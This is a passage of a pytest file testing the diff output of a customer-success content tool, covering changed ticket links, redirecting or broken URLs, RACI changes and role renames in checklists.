                  ["role", "cs-lead", "team-lead"]):
        moved = run("mv", *words, "--project", project)
        assert moved.exit_code == 0, moved.output
    faq, chart = project / "content/faq/renewals.yml", project / "content/charts/duties.yml"
    faq.write_text(faq.read_text().replace("At T-120d.", "At T-150d.").replace("[ownership]", "[ownership, renewal]")
                   .replace("Five percent.", "Seven percent."))  # renamed above, changed here: tickets hold uplift
    chart.write_text(chart.read_text().replace("{R: csm, A: team-lead}", "{R: csm, A: cs-ops}"))
    commit_all(project, "Renewals start earlier; CS Ops approves discounts")

    comment = run("diff", "main", "HEAD", "--project", project).output
    assert "— 3 ticket links will say “changed” —" in comment.split("\n")[2]  # the headline counts them
    assert comment.split("### Ticket links that will say “changed”\n\n")[1].split("\n\n###")[0] == (
        "Links to these already copied into tickets will open with “This … changed on …, after this link was copied”:"
        "\n\n- `faq/renewals/#when` When do renewals start?\n- `faq/renewals/#uplift` Is there an uplift?"
        "\n- `charts/duties/#discount` Approve a discount")
    # a tool matches the URL its tickets hold, and finds the item by its id today
    found = json.loads(run("diff", "main", "HEAD", "--project", project, "--format", "json").output)
    assert {kind: {page["id"]: page["items"]["new_versions"] for page in found["kinds"][kind]["changed"]}
            for kind in ("faq", "chart")} == {
        "faq": {"renewals": [{"id": "when", "url": "faq/renewals/#when"},
                             {"id": "price-uplift", "url": "faq/renewals/#uplift"}]},
        "chart": {"duties": [{"id": "discount", "url": "charts/duties/#discount"}]}}


def test_diff_json_lists_each_url_that_redirects_or_breaks(tmp_path, run):
    """The JSON for tools said how many old URLs break ("uncovered_urls": 1) but not which, nor which redirect: a bot
    posting 'these ticket links break' had to parse the Markdown table. It lists them as the table does."""
    project = make_repo(tmp_path / "repo")
    found = json.loads(run("diff", "main", "HEAD", "--project", project, "--format", "json").output)
    assert found["urls"] == [
        {"url": "playbooks/renewal/", "fate": "redirect", "to": "playbooks/renewal-runway/", "anchors": 1},
        {"url": "playbooks/renewal/#close", "fate": "breaks", "to": None, "anchors": 0,
         "fix": "add `aliases: [close]` to the renamed item"},
        {"url": "playbooks/renewal/#confirm", "fate": "redirect", "to": "playbooks/renewal-runway/#confirm-stakeholders",
         "anchors": 0}]
    assert found["uncovered_urls"] == 1


def test_a_raci_edit_beside_a_role_rename_lists_only_the_letters_it_changed(tmp_path, run):
    """A pull request that renamed cs-lead and took one Consulted role off a duty listed 'A cs-lead → team-lead' and
    'R +team-lead −cs-lead' beside the real change: a reviewer read a new Accountable where there is none."""
    project = committed_project(tmp_path / "repo", {"content/charts/duties.yml": """\
        title: Duties
        activities:
          - {id: strategy, name: CS strategy, raci: {R: [cs-lead, cs-ops], A: cs-lead, C: [csm, sales-ae]}}
        """})
    git(project, "switch", "-q", "-c", "pr")
    assert run("mv", "role", "cs-lead", "team-lead", "--project", project).exit_code == 0
    chart = project / "content/charts/duties.yml"
    chart.write_text(chart.read_text().replace("C: [csm, sales-ae]", "C: [csm]"))
    commit_all(project, "Rename the lead; sales no longer consulted")
    comment = run("diff", "main", "HEAD", "--project", project).output
    assert comment.split("### Owners and RACI\n\n")[1].split("\n\n")[0] == (
        "| Where | Change |\n| --- | --- |\n| `duties` › `strategy` RACI · C | −sales-ae |")


def test_a_role_rename_is_no_edit_of_a_checklist_whose_audience_names_the_role(tmp_path, run):
    """`csops mv role` rewrites a checklist's `audience: [cs-lead]`; the checklist is for the same people, so a pull
    request that only renamed the role must not list it as edited (FirstNames.with_first_role_ids reads a list of
    roles by their first ids, as it reads an owner or a RACI)."""
    project = committed_project(tmp_path / "repo", {"content/onboarding/leads.yml": """\
        title: New leads
        audience: [cs-lead, csm]
        sections:
          - id: first-week
            title: First week
            items: [{id: meet-team, text: Meet the team}]
        """})
    git(project, "switch", "-q", "-c", "pr")
    assert run("mv", "role", "cs-lead", "team-lead", "--project", project).exit_code == 0
    assert "team-lead" in (project / "content/onboarding/leads.yml").read_text(encoding="utf-8")
    commit_all(project, "Rename the lead")
    comment = run("diff", "main", "HEAD", "--project", project).output
    assert "leads" not in comment and "audience" not in comment, comment
